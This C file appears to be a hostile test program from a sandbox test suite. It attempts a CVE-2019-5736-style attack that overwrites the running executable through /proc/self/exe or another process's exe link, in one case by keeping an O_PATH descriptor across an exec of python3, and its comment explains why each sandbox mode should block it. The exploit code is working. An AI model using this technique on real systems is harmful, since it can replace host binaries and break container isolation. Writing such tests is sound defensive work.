/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Tries: overwrite the runtime through /proc/self/exe (CVE-2019-5736
 * class).  The runner installs this program at a world-writable host path:
 * only the sandbox stands between the plugin and an executable the host
 * will run again.  While it runs, writes fail with ETXTBSY; so, as the
 * runc exploit did, it keeps an O_PATH descriptor of /proc/self/exe across
 * an exec of another program (python3), which no longer runs this file and
 * reopens the descriptor for writing through /proc/self/fd.  It also tries
 * /proc/<victim>/exe, whose binary is world-writable too.
 * Why it fails: the plugin file is granted READ and EXECUTE only in
 * Landlock (Limited) and bound read-only into the private root
 * (Sandboxed); Strict allows no exec after the start; another process's
 * exe link needs ptrace access, which Landlock and the pid namespace deny.
 */
#include "../hostile.h"

static void overwrite(const char *path)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);

    if (attempt(path, fd) >= 0) {
        attempt("write", write(fd, "#!/bin/sh\necho PWNED\n", 21));
        close(fd);
    }
}

int main(int argc, char **argv)
{
    hostile_init(argc, argv);
    overwrite("/proc/self/exe");
    if (arg("victim")) {
        char path[64];
        snprintf(path, sizeof(path), "/proc/%s/exe", arg("victim"));
        overwrite(path);
    }
    int fd = (int)attempt("O_PATH /proc/self/exe", open("/proc/self/exe", O_PATH));
    if (fd < 0)
        return finish();
    char code[512];
    snprintf(code, sizeof(code),
        "import os,sys\n"
        "try:\n"
        " f=os.open('/proc/self/fd/%d',os.O_WRONLY)\n"
        " os.write(f,b'#!/bin/sh\\necho PWNED\\n')\n"
        " print('hostile: overwrote the executable',file=sys.stderr)\n"
        "except OSError as e:\n"
        " print('hostile: reopen for writing:',e,file=sys.stderr)\n",
        fd);
    char *args[] = { "python3", "-c", code, NULL };
    char *env[] = { NULL };
    attempt("exec python3 holding the descriptor", execve("/usr/bin/python3", args, env));
    return finish();
}
